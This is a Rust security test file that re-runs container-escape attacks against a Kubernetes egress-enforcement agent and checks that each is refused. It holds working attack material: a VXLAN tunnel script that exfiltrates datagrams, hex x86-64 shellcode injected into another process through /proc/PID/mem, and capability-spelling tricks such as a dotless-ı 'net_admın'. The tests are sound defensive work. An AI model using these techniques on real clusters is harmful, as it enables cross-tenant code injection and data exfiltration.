//! A forty-first attack review, run as the tenant of an enforced Kubernetes namespace:
//! the pod specs are the attacker's, and so is the code in the pods. Each test writes a
//! spec to the fake API server (`hb_tests::kube_cluster`), runs in the pod's cgroup what
//! the container runtime would run for that spec, and counts what got past the agent's
//! refusals (`kubernetes.require_seccomp_profile`, the `CAP_NET_RAW` rule). A test marked
//! `#[ignore = "open: …"]` is a break found and not yet fixed: it fails against the
//! current agent.
//!
//! The runtime is containerd (the one the README's DaemonSet and the refusals are
//! written for); what it does with a spec was read in its CRI plugin's source, and the
//! test's process is started the way containerd would start the container (root, the
//! capabilities it would leave, no seccomp filter where it would load none).
//!
//! Found (each test fails against s43, the merge 37001bb):
//! - a `privileged: true` container naming hb's profile (its own `seccompProfile` or the
//!   pod's) counted as confined, so the pod was admitted whatever it kept ("a pod whose
//!   every container runs under the profile may keep `CAP_NET_RAW`"). containerd loads
//!   no seccomp filter for a privileged container (`generateSeccompSpecOpts`: "Do not set
//!   seccomp profile when container is privileged") and grants it every capability: its
//!   packet socket's datagram reached the unvalidated address (1 of 1 on s43). A
//!   privileged container is outside the profile now, whatever it names
//!   (`confined::unconfined`): refused, killed, 0 of 1.
//! - a `capabilities.drop` of `CAP_NET_RAW` (or `CAP_ALL`, or ` NET_RAW` with a blank)
//!   counted as dropping `NET_RAW` (`caps::bare` strips the prefix and trims); containerd
//!   drops `"CAP_" + upper(name)`, here the unknown `CAP_CAP_NET_RAW`, and keeps
//!   `NET_RAW`. Under `require_seccomp_profile = false` (where the `CAP_NET_RAW` rule is
//!   all that stands) both pods ran and their packet sockets' datagrams arrived (2 of 2
//!   on s43). A drop counts now only as containerd honours it (`NET_RAW` or `ALL`, any
//!   case, nothing else): refused, 0 of 2.
//! - a pod wholly under hb's profile was spared the `CAP_NET_RAW` rule altogether, so a
//!   container adding `NET_ADMIN` (or `SYS_ADMIN`, `ALL`) ran. The profile allows
//!   rtnetlink: the pod made a VXLAN device, routed an allowed address into it, and its
//!   UDP datagram to that address went out encapsulated by the kernel's own VXLAN socket
//!   to a denied address (1 of 1 on s43): `cgroup_skb/egress` judges an skb only when
//!   the socket sending it is the skb's own, and `cgroup/sock_create` does not run for
//!   kernel sockets. Under the profile a pod is refused now by the containers holding a
//!   capability beyond containerd's default set (`caps::beyond_default_keepers`: an
//!   allowlist, so `SYS_RAWIO`'s `iopl`, which the profile allows, goes too), under a
//!   policy without `raw_sockets`: 0 of 1. The test makes the tunnel outside runc; the same script
//!   run once by runc under s43's own profile (`hb-agent sandbox seccomp-profile`) with
//!   `CAP_NET_ADMIN` made it and got its datagram to the far end (1 of 1, tried and not
//!   kept: rtnetlink is `socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE)`, which the profile
//!   allows).
//! - an `add` of `net_admın` (dotless `ı`, U+0131) counted as no capability the rule
//!   names (`caps::bare` upper-cased ASCII only); containerd's Go `strings.ToUpper`
//!   makes it `CAP_NET_ADMIN` (as `ſ`, U+017F, makes `S`). Under
//!   `require_seccomp_profile = false` a pod dropping `ALL` and adding it ran, and its
//!   VXLAN tunnel carried a datagram to the denied address (1 of 1 on s43). Adds are
//!   upper-cased as Unicode does now: refused, 0 of 1.
//! - a pod with `hostPID: true` under hb's profile, root with the runtime's default
//!   capabilities, wrote code through `/proc/PID/mem` (no `ptrace`, which the profile
//!   refuses) where another tenant's root container in an unenforced namespace would
//!   return from its `sleep`; that process then sent a datagram to the address the
//!   pod's own UDP got `EPERM` for (1 of 1 on s43; the kernel lets a process write the
//!   memory of one with the same uid and no more capabilities). An enforced pod with
//!   `hostPID` is refused now whatever its profile (`api::spec_findings`, grounds
//!   `unconfined`): 0.
//!
//! Found after (the lead, against 8a073d7): `raw_sockets = true` spared a pod every
//! capability ground, not `CAP_NET_RAW` alone, so under it a pod adding `NET_ADMIN`
//! ran and its tunnel reached the denied far end (1 of 1). A container holding a
//! capability beyond the runtime's default set refuses its pod under every policy now
//! (`node::Grounds::beyond_default`): 0. And a pod mounting a node folder writable
//! (here the one holding `hb.json`) ran as root and replaced the file (1 of 1): an
//! enforced pod may mount only below its broker's policy socket folder, read-only, and
//! not share the node's IPC (`node_access`): refused, 0. A pod naming
//! `runtimeClassName: gvisor` under hb's profile counted as confined, though `runsc`
//! applies neither the profile nor the capability set and sends through a packet socket
//! (1 of 1): a runtime class not in `kubernetes.runtime_classes` refuses its pod, 0.
//!
//! All five specs are refused by the admission policy of the kustomization
//! (`deploy/kubernetes/sandbox-admission.yaml`: no privileged container, `drop` holding
//! exactly `ALL`, adds only `NET_BIND_SERVICE`, no `hostPID`): with it deployed, no
//! pod both admitted escaped. They break the agent's own refusals, which the README
//! presents as the enforcement (the admission policy as "better still"), as on a
//! cluster without `ValidatingAdmissionPolicy` or an operator who left it out.
//!
//! Held (read, or tried on the unit level):
//! - `localhostProfile` spellings that the kubelet resolves to the same file
//!   (`./hb.json`, `x/../hb.json`), `type: localhost`: refused (not exactly the name),
//!   fail closed;
//! - an `add` spelled oddly (`cap_net_raw`, ` NET_RAW`): counted as keeping it, fail
//!   closed;
//! - an ephemeral container added later outside the profile: the update refuses the pod
//!   (`an update can only turn it on`);
//! - the profile (read, from s43's `sandbox seccomp-profile`): `personality` refuses a
//!   persona flag with any other bit clear (every pair written out), so only the
//!   all-ones query passes with a flag; `clone` flags are masked single-bit tests, which
//!   high bits do not change (the kernel reads the low 32); `open_by_handle_at` is
//!   refused, so an added `DAC_READ_SEARCH` opens no host file by handle;
//! - an agent restarted while a refused pod's cgroup exists thaws nothing it did not
//!   freeze itself, and refuses the cgroup again (`kubernetes`'s restart test).
//!
//! Not tried: x32 calls (this kernel has no `CONFIG_X86_X32_ABI`); the seccomp
//! annotations that kubelets before 1.27 read before the pod's field when a container's
//! own field is unset; CRI-O (only containerd's source was read).
//!
//! Everything lives in the cluster's own network namespace, addresses on `lo`.

use std::{
    fs,
    net::UdpSocket,
    os::{fd::AsRawFd as _, unix::process::ExitStatusExt as _},
    thread,
    time::Duration,
};

use hb_tests::{
    UdpProbe,
    kube::{Driver, FakePod, PY_PACKET, Qos, run_in_cgroup, wait_until},
    kube_cluster::{Cluster, NODE, PodNetns},
    python, sh,
};
use serde_json::json;

/// The cluster's private address (on `lo`, in the deny ranges): the listener the pods
/// aim at.
const PRIVATE4: &str = "10.0.0.1";
/// An address the host does not hold: the packet socket's datagram's source.
const FOREIGN4: &str = "198.51.100.1";

/// Runs the packet attack in a container of `pod` (enrolled under `web`), as root with
/// every capability and no seccomp filter; its exit status, output, and how many
/// datagrams reached `probe`.
fn packet_attack(
    c: &Cluster,
    pod: &FakePod,
    probe: &UdpProbe,
) -> (std::process::ExitStatus, String, usize) {
    let before = probe.received();
    let (_, container) = c.enrolled_container(pod, Driver::Cgroupfs, Qos::Burstable, "web");
    let port = probe.addr.port().to_string();
    let argv = [python(), "-c", PY_PACKET, PRIVATE4, &port, FOREIGN4];
    let (status, got) = run_in_cgroup(&container, &argv);
    thread::sleep(Duration::from_millis(300));
    (status, got, probe.received() - before)
}

/// Whether an audit record with `reason` names pod `agents/NAME` and has `detail`
/// holding `needle`, waiting for it.
fn reported(c: &Cluster, reason: &str, name: &str, needle: &str) -> bool {
    wait_until(Duration::from_secs(10), || {
        c.env.audit_records().iter().any(|r| {
            r["reason"] == reason
                && r["name"] == format!("agents/{name}")
                && r["detail"].as_str().is_some_and(|d| d.contains(needle))
        })
    })
}

/// containerd starts a `privileged: true` container with no seccomp filter, whatever
/// profile its spec or its pod's names, and with every capability: such a pod is
/// outside hb's profile, refused, and its packet socket reaches nothing.
#[test]
fn a_privileged_container_naming_hbs_profile_is_refused() {
    let c = Cluster::start_configured("ar41-priv", 100, true);
    let probe = UdpProbe::bind(&format!("{PRIVATE4}:0"));
    let hbs = json!({"type": "Localhost", "localhostProfile": "hb.json"});
    let mut pod = FakePod::new("priv", "agents", NODE, Some("web"));
    pod.spec = json!({
        "securityContext": {"seccompProfile": hbs},
        "containers": [{"name": "main", "securityContext": {"privileged": true, "seccompProfile": hbs}}],
    });
    let (status, got, arrived) = packet_attack(&c, &pod, &probe);
    println!(
        "figure: a privileged container naming hb's profile (run as containerd runs it: no \
         seccomp filter, every capability): {arrived} of 1 packet-socket datagram(s) reached \
         the unvalidated {PRIVATE4}; its process ended with {status:?} having printed {got:?}"
    );
    assert_eq!(
        arrived, 0,
        "the privileged pod's packet socket reached {PRIVATE4} ({got:?})"
    );
    assert_eq!(
        status.signal(),
        Some(libc::SIGKILL),
        "the privileged pod's process is killed ({got:?})\n{}",
        c.log()
    );
    assert!(
        reported(
            &c,
            "unconfined_pod",
            "priv",
            "containers/main (runs under no profile (privileged"
        ),
        "no unconfined_pod event naming the privileged container: {:?}",
        c.env.audit_records()
    );
    c.wait_stat("the refusal counted", |s| s["unconfined_pods"] == 1);
}

/// containerd drops `"CAP_" + upper(name)` for each name but `ALL`: a drop written
/// `CAP_NET_RAW` or `CAP_ALL` drops an unknown capability and leaves `NET_RAW`. Under
/// `require_seccomp_profile = false` such pods are refused by the `CAP_NET_RAW` rule,
/// and their packet sockets reach nothing.
#[test]
fn a_drop_spelled_with_the_cap_prefix_keeps_net_raw() {
    let c = Cluster::start_with("ar41-capdrop", 100);
    let probe = UdpProbe::bind(&format!("{PRIVATE4}:0"));
    let spellings = [("prefixed", "CAP_NET_RAW"), ("prefixedall", "CAP_ALL")];
    let mut arrived = 0;
    let mut ran = Vec::new();
    for (name, drop) in spellings {
        let pod = FakePod::new(name, "agents", NODE, Some("web"))
            .with_security(json!({"capabilities": {"drop": [drop]}}));
        let (status, got, n) = packet_attack(&c, &pod, &probe);
        arrived += n;
        if status.signal() != Some(libc::SIGKILL) {
            ran.push((drop, status, got));
        }
    }
    println!(
        "figure: pods dropping `CAP_NET_RAW` and `CAP_ALL` (which containerd does not drop), \
         their processes holding NET_RAW: {arrived} of {} packet-socket datagram(s) reached \
         the unvalidated {PRIVATE4}; not killed: {ran:?}",
        spellings.len()
    );
    assert_eq!(arrived, 0, "a packet socket reached {PRIVATE4}: {ran:?}");
    assert!(
        ran.is_empty(),
        "a pod keeping NET_RAW ran: {ran:?}\n{}",
        c.log()
    );
    for (name, drop) in spellings {
        assert!(
            reported(&c, "net_raw_pod", name, "containers/main (runtime default)"),
            "no net_raw_pod event for the pod dropping {drop}: {:?}",
            c.env.audit_records()
        );
    }
    c.wait_stat("both refusals counted", |s| s["net_raw_pods"] == 2);
}

/// The tunnel a pod holding `CAP_NET_ADMIN` makes through rtnetlink (`NETLINK_ROUTE`,
/// which hb's profile allows): a VXLAN device whose forwarding entry sends to
/// `argv[1]`:`argv[2]`, a route to `argv[3]` through it (a static neighbour: no ARP goes
/// out), then a UDP datagram to `argv[3]`, an address the policy allows. Prints `vxlan
/// RESULT`.
const SH_VXLAN: &str = r#"
set -e
ip link add hbvx41 type vxlan id 41 dstport 4789 nolearning
echo 1 > /proc/sys/net/ipv6/conf/hbvx41/disable_ipv6
ip link set hbvx41 up
bridge fdb append 02:00:00:00:00:41 dev hbvx41 dst "$1" port "$2"
ip route add "$3/32" dev hbvx41
ip neigh add "$3" lladdr 02:00:00:00:00:41 dev hbvx41
"$4" -c 'import errno, socket, sys
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hb-exfil:vxlan", (sys.argv[1], 9))
    print("vxlan sent")
except OSError as e:
    print("vxlan", errno.errorcode.get(e.errno, e.errno))' "$3"
"#;

/// An address the policy `open` allows (outside the deny ranges, routed through the
/// pod's tunnel).
const OPEN4: &str = "203.0.113.77";
/// The tunnel's far end: a private address (in the deny ranges) in a namespace of its
/// own behind a veth pair, as a host beyond the node's uplink is (VXLAN delivers to a
/// local address without encapsulating).
const FAR4: &str = "10.9.9.9";

/// A UDP socket bound to `addr` in the network namespace `netns` (a path).
fn bind_in(netns: &str, addr: &str) -> UdpSocket {
    let (netns, addr) = (netns.to_owned(), addr.to_owned());
    thread::spawn(move || {
        let ns = fs::File::open(&netns).expect("the far namespace");
        // SAFETY: setns on a descriptor this thread owns; it moves only this thread,
        // which ends after the bind.
        let rc = unsafe { libc::setns(ns.as_raw_fd(), libc::CLONE_NEWNET) };
        assert_eq!(rc, 0, "setns: {}", std::io::Error::last_os_error());
        UdpSocket::bind(&addr).expect("bind in the far namespace")
    })
    .join()
    .expect("the binding thread")
}

/// Datagrams holding `tag` that `sock` has received so far (read without waiting).
fn tagged(sock: &UdpSocket, tag: &[u8]) -> usize {
    sock.set_nonblocking(true).expect("nonblocking");
    let mut buf = [0u8; 2048];
    let mut n = 0;
    while let Ok(len) = sock.recv(&mut buf) {
        n += usize::from(buf[..len].windows(tag.len()).any(|w| w == tag));
    }
    n
}

/// containerd grants an added `NET_ADMIN`, which hb's profile does not take away: with
/// it a process makes a VXLAN device through rtnetlink, and the kernel's own UDP socket
/// carries what the pod sends to an allowed address, encapsulated, to the tunnel's far
/// end, which no hook judges (`cgroup_skb/egress` runs only for the skb's own socket,
/// the pod's; `cgroup/sock_create` not for kernel sockets). A pod under the profile that
/// adds `NET_ADMIN` is refused under a policy without `raw_sockets`.
#[test]
fn a_pod_under_hbs_profile_adding_net_admin_is_refused() {
    let c = Cluster::start_configured("ar41-netadmin", 100, true);
    let hbs = json!({"type": "Localhost", "localhostProfile": "hb.json"});
    let mut pod = FakePod::new("tunnel", "agents", NODE, Some("open"));
    pod.spec = json!({
        "securityContext": {"seccompProfile": hbs},
        "containers": [{"name": "main", "securityContext": {
            "capabilities": {"drop": ["ALL"], "add": ["NET_ADMIN"]}}}],
    });
    tunnel_refused(
        &c,
        &pod,
        "open",
        "a pod under hb's profile adding NET_ADMIN",
        "containers/main (adds NET_ADMIN)",
    );
}

/// `raw_sockets = true` lets a pod keep `CAP_NET_RAW`, and nothing more: a pod under such
/// a policy that adds `NET_ADMIN` (with hb's profile or without) is refused as under any
/// other, and its tunnel reaches nothing. (On 8a073d7 the opt-in spared every capability
/// ground: the pod ran and its datagram reached the denied far end, 1 of 1.)
#[test]
fn a_raw_sockets_pod_adding_net_admin_is_refused() {
    let c = Cluster::start_with("ar41-rawadmin", 100);
    let pod = FakePod::new("rawadmin", "agents", NODE, Some("rawopen"))
        .with_security(json!({"capabilities": {"drop": ["ALL"], "add": ["NET_RAW", "NET_ADMIN"]}}));
    tunnel_refused(
        &c,
        &pod,
        "rawopen",
        "a pod under a raw_sockets policy adding NET_ADMIN",
        "containers/main (adds NET_ADMIN)",
    );
}

/// The tunnel attack from a container of `pod` (enrolled under `policy`), as root with
/// every capability: the far end set up (a namespace behind a veth pair, [`FAR4`]), then
/// [`SH_VXLAN`]. Prints the figure for `what`, then asserts that nothing reached the far
/// end, that the process was killed and that a `net_raw_pod` event names the pod with
/// `detail` holding `needle`.
fn tunnel_refused(c: &Cluster, pod: &FakePod, policy: &str, what: &str, needle: &str) {
    let far = PodNetns::new();
    for cmd in [
        "ip link add hbfar0 type veth peer name hbfar1".to_owned(),
        format!("ip link set hbfar1 netns {}", far.0.pid),
        "ip addr add 10.9.9.1/24 dev hbfar0".to_owned(),
        "ip link set hbfar0 up".to_owned(),
    ] {
        sh(&cmd);
    }
    let out = far.run(&[
        "sh",
        "-c",
        &format!("ip addr add {FAR4}/24 dev hbfar1 && ip link set hbfar1 up"),
    ]);
    assert!(out.status.success(), "the far end's address: {out:?}");
    let listener = bind_in(&far.path(), &format!("{FAR4}:0"));
    let port = listener.local_addr().expect("addr").port().to_string();
    let (_, container) = c.enrolled_container(pod, Driver::Cgroupfs, Qos::Burstable, policy);
    let (status, got) = run_in_cgroup(
        &container,
        &["sh", "-c", SH_VXLAN, "sh", FAR4, &port, OPEN4, python()],
    );
    thread::sleep(Duration::from_millis(300));
    let arrived = tagged(&listener, b"hb-exfil:vxlan");
    println!(
        "figure: {what}, its UDP to the allowed {OPEN4} routed into a VXLAN tunnel: {arrived} \
         of 1 encapsulated datagram(s) reached the denied {FAR4}; its process ended with \
         {status:?} having printed {got:?}"
    );
    assert_eq!(arrived, 0, "the tunnel reached {FAR4} ({got:?})");
    assert_eq!(
        status.signal(),
        Some(libc::SIGKILL),
        "the tunnelling pod is killed ({got:?})\n{}",
        c.log()
    );
    assert!(
        reported(c, "net_raw_pod", &pod.name, needle),
        "no net_raw_pod event for {} holding {needle:?}: {:?}",
        pod.name,
        c.env.audit_records()
    );
}

/// containerd upper-cases an added name with Go's `strings.ToUpper`, which maps the
/// dotless `ı` (U+0131) to `I` and the long `ſ` (U+017F) to `S`: an `add` of
/// `net_admın` grants `CAP_NET_ADMIN`. Without hb's profile required (where the
/// `CAP_NET_RAW` rule stands alone), a pod that drops `ALL` and adds it is refused,
/// and its tunnel reaches nothing.
#[test]
fn an_add_spelled_with_a_dotless_i_is_net_admin() {
    let c = Cluster::start_with("ar41-dotless", 100);
    let pod = FakePod::new("dotless", "agents", NODE, Some("open"))
        .with_security(json!({"capabilities": {"drop": ["ALL"], "add": ["net_adm\u{131}n"]}}));
    tunnel_refused(
        &c,
        &pod,
        "open",
        "a pod dropping ALL and adding `net_adm\u{131}n` (containerd grants CAP_NET_ADMIN)",
        "containers/main (adds net_adm",
    );
}

/// The capabilities containerd grants a container by default (`setpriv` spelling).
const DEFAULT_CAPS: &str = "-all,+chown,+dac_override,+fsetid,+fowner,+mknod,+net_raw,+setgid,\
                            +setuid,+setfcap,+setpcap,+net_bind_service,+sys_chroot,+kill,\
                            +audit_write";

/// x86-64 code that sends `hb-exfil:inject` in a UDP datagram to 10.0.0.1:PORT (the
/// two bytes after `b798` placeholder: `0xb798`, patched) and exits 0.
const SHELLCODE: &str = "b829000000bf02000000be0200000031d20f0589c7b82c000000488d3520000000ba0f00\
                         00004531d24c8d052000000041b9100000000f05b83c00000031ff0f0568622d657866\
                         696c3a696e6a6563740200b7980a0000010000000000000000";

/// The injector: its own UDP datagram to `argv[3]` (the control: the pod's policy
/// refuses it), then `argv[2]` (code, hex) written where process `argv[1]` will return
/// from its system call (`/proc/PID/syscall`'s last field), through `/proc/PID/mem`: no
/// `ptrace`, which hb's profile refuses.
const PY_INJECT: &str = r#"
import errno, socket, sys
pid, code, dst, port = int(sys.argv[1]), bytes.fromhex(sys.argv[2]), sys.argv[3], int(sys.argv[4])
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hb-exfil:own", (dst, port))
    print("own sent", flush=True)
except OSError as e:
    print("own", errno.errorcode.get(e.errno, e.errno), flush=True)
pc = int(open(f"/proc/{pid}/syscall").read().split()[-1], 16)
with open(f"/proc/{pid}/mem", "r+b", buffering=0) as m:
    m.seek(pc)
    m.write(code)
print("injected", flush=True)
"#;

/// A pod with `hostPID: true` sees the node's processes, and a root process of it with
/// the runtime's default capabilities may write the memory of any other process running
/// as root with no more capabilities (`ptrace_may_access`: same uid, capabilities a
/// subset), such as another tenant's container in an unenforced namespace: its code
/// then runs in that container's cgroup, under no policy. hb's profile refuses `ptrace`
/// and `process_vm_writev`, not `/proc/PID/mem`. An enforced pod with `hostPID` is
/// refused, whatever its profile.
#[test]
fn a_host_pid_pod_cannot_run_its_code_in_another_pods_process() {
    let c = Cluster::start_configured("ar41-hostpid", 100, true);
    let probe = UdpProbe::bind(&format!("{PRIVATE4}:0"));
    let port = probe.addr.port();
    let code = SHELLCODE.replace("0200b798", &format!("0200{port:04x}"));
    // Another tenant's container: unenforced namespace `plain`, root, default capabilities.
    let other = FakePod::new("other", "plain", NODE, None).with_security(serde_json::Value::Null);
    c.api.pod(&other, false);
    let other_dir = c.pod_dir(Driver::Cgroupfs, Qos::BestEffort, &other.uid);
    let other_container = other_dir.join("c-victim");
    fs::create_dir_all(&other_container).expect("the other pod's cgroup");
    let caps_inh = format!("--inh-caps={DEFAULT_CAPS}");
    let caps_bnd = format!("--bounding-set={DEFAULT_CAPS}");
    let mut victim = std::process::Command::new("sh")
        .args([
            "-c",
            &format!(
                "echo $$ > {}/cgroup.procs && exec \"$@\"",
                other_container.display()
            ),
            "sh",
            "setpriv",
            &caps_inh,
            &caps_bnd,
            "sleep",
            "3",
        ])
        .spawn()
        .expect("the other pod's process");
    let pid = victim.id();
    assert!(
        wait_until(Duration::from_secs(5), || fs::read_to_string(format!(
            "/proc/{pid}/comm"
        ))
        .is_ok_and(|c| c.trim() == "sleep")),
        "the other pod's process did not start"
    );

    let hbs = json!({"type": "Localhost", "localhostProfile": "hb.json"});
    let mut pod = FakePod::new("hostpid", "agents", NODE, Some("web"));
    pod.spec = json!({
        "hostPID": true,
        "securityContext": {"seccompProfile": hbs},
        "containers": [{"name": "main"}],
    });
    let (_, container) = c.enrolled_container(&pod, Driver::Cgroupfs, Qos::Burstable, "web");
    let pid_arg = pid.to_string();
    let port_arg = port.to_string();
    let (status, got) = run_in_cgroup(
        &container,
        &[
            "setpriv",
            &caps_inh,
            &caps_bnd,
            python(),
            "-c",
            PY_INJECT,
            &pid_arg,
            &code,
            PRIVATE4,
            &port_arg,
        ],
    );
    let victim_status = victim.wait().expect("the other pod's process");
    thread::sleep(Duration::from_millis(300));
    let arrived = probe.received();
    println!(
        "figure: a hostPID pod under hb's profile with the default capabilities wrote its code \
         into another (unenforced) pod's process: {arrived} datagram(s) reached the denied \
         {PRIVATE4}; the pod's process ended with {status:?} having printed {got:?}; the other \
         pod's process ended with {victim_status:?}"
    );
    assert_eq!(arrived, 0, "the injected code reached {PRIVATE4} ({got:?})");
    assert_eq!(
        status.signal(),
        Some(libc::SIGKILL),
        "the hostPID pod is killed ({got:?})\n{}",
        c.log()
    );
    assert!(
        reported(&c, "unconfined_pod", "hostpid", "hostPID"),
        "no unconfined_pod event for the hostPID pod: {:?}",
        c.env.audit_records()
    );
}

/// A container runs as root unless its spec says otherwise, and root owns the node's
/// root-owned files through a writable `hostPath`: here a folder standing for the node's
/// `/var/lib/kubelet/seccomp`, whose `hb.json` every enforced pod then runs under (or
/// `/etc`, or `/sys/fs/cgroup`). An enforced pod may mount only its broker's policy
/// socket folder, read-only: this one is refused and writes nothing. The control, a pod
/// mounting its policy's socket folder read-only, runs. (On 8a073d7 the writer ran and
/// replaced the file, 1 of 1.)
#[test]
fn a_pod_mounting_a_node_folder_writable_is_refused() {
    let c = Cluster::start_with("ar41-hostpath", 100);
    let node_dir = std::env::temp_dir().join(format!("hb-ar41-node-{}", hb_tests::random_suffix()));
    fs::create_dir_all(&node_dir).expect("the node folder");
    let profile = node_dir.join("hb.json");
    fs::write(&profile, "hb's profile").expect("the profile");
    let dropped = json!({"capabilities": {"drop": ["ALL"]}});
    let mut writer = FakePod::new("hostpath", "agents", NODE, Some("web"));
    writer.spec = json!({
        "volumes": [{"name": "node", "hostPath": {"path": node_dir.to_str().expect("utf-8")}}],
        "containers": [{"name": "main", "securityContext": dropped,
            "volumeMounts": [{"name": "node", "mountPath": "/node"}]}],
    });
    let (_, container) = c.enrolled_container(&writer, Driver::Cgroupfs, Qos::Burstable, "web");
    let target = profile.to_str().expect("utf-8");
    let (status, got) = run_in_cgroup(
        &container,
        &[
            "sh",
            "-c",
            "echo replaced > \"$1\" && echo written",
            "sh",
            target,
        ],
    );
    let now = fs::read_to_string(&profile).expect("the profile");
    let replaced = usize::from(now != "hb's profile");
    println!(
        "figure: a pod mounting a node folder writable replaced the node's file: {replaced} of 1; \
         its process ended with {status:?} having printed {got:?}"
    );
    let _ = fs::remove_dir_all(&node_dir);
    assert_eq!(replaced, 0, "the pod wrote the node's file ({got:?})");
    assert_eq!(
        status.signal(),
        Some(libc::SIGKILL),
        "the writer is killed ({got:?})\n{}",
        c.log()
    );
    assert!(
        reported(&c, "unconfined_pod", "hostpath", "hostPath volume node"),
        "no unconfined_pod event naming the volume: {:?}",
        c.env.audit_records()
    );
    // The control: its policy's socket folder, read-only.
    let sockets = c.env.policy_socket("web");
    let sockets = sockets.parent().expect("the policy's folder");
    let mut reader = FakePod::new("sockets", "agents", NODE, Some("web"));
    reader.spec = json!({
        "volumes": [{"name": "hb", "hostPath": {"path": sockets.to_str().expect("utf-8")}}],
        "containers": [{"name": "main", "securityContext": dropped,
            "volumeMounts": [{"name": "hb", "mountPath": "/run/hb", "readOnly": true}]}],
    });
    let (_, container) = c.enrolled_container(&reader, Driver::Cgroupfs, Qos::Burstable, "web");
    let (status, got) = run_in_cgroup(&container, &["sh", "-c", "echo ran"]);
    assert!(
        status.success() && got.contains("ran"),
        "the control pod: {status:?} {got:?}\n{}",
        c.log()
    );
}

/// hb's reading of a spec is what containerd does with it under its default runtime
/// (runc). A pod naming another runtime class escapes that reading: gVisor's `runsc`
/// applies its own seccomp filter, not the pod's profile, and its network stack holds
/// `CAP_NET_RAW` in the pod's namespace to write the pod's packets through a packet
/// socket, which no cgroup hook judges (Kata's VM sends through a tap device, as
/// unjudged). A pod that drops `ALL` and names hb's profile but also `runtimeClassName:
/// gvisor` is refused unless `kubernetes.runtime_classes` lists the class. The test runs
/// what `runsc` would run in the pod's cgroup: root with `CAP_NET_RAW`, no hb filter.
/// (On 8a073d7 the pod counted as confined: its datagram arrived, 1 of 1.)
#[test]
fn a_pod_naming_another_runtime_class_is_refused() {
    let c = Cluster::start_configured("ar41-runtime", 100, true);
    let probe = UdpProbe::bind(&format!("{PRIVATE4}:0"));
    let hbs = json!({"type": "Localhost", "localhostProfile": "hb.json"});
    let mut pod = FakePod::new("gvisor", "agents", NODE, Some("web"));
    pod.spec = json!({
        "runtimeClassName": "gvisor",
        "securityContext": {"seccompProfile": hbs},
        "containers": [{"name": "main", "securityContext": {"capabilities": {"drop": ["ALL"]}}}],
    });
    let (status, got, arrived) = packet_attack(&c, &pod, &probe);
    println!(
        "figure: a pod under hb's profile naming runtimeClassName gvisor (run as runsc's \
         network stack runs: CAP_NET_RAW, no hb filter): {arrived} of 1 packet-socket \
         datagram(s) reached the unvalidated {PRIVATE4}; its process ended with {status:?} \
         having printed {got:?}"
    );
    assert_eq!(
        arrived, 0,
        "the gvisor pod's packet socket reached {PRIVATE4} ({got:?})"
    );
    assert_eq!(
        status.signal(),
        Some(libc::SIGKILL),
        "the gvisor pod's process is killed ({got:?})\n{}",
        c.log()
    );
    assert!(
        reported(&c, "unconfined_pod", "gvisor", "runtimeClassName gvisor"),
        "no unconfined_pod event naming the runtime class: {:?}",
        c.env.audit_records()
    );
}
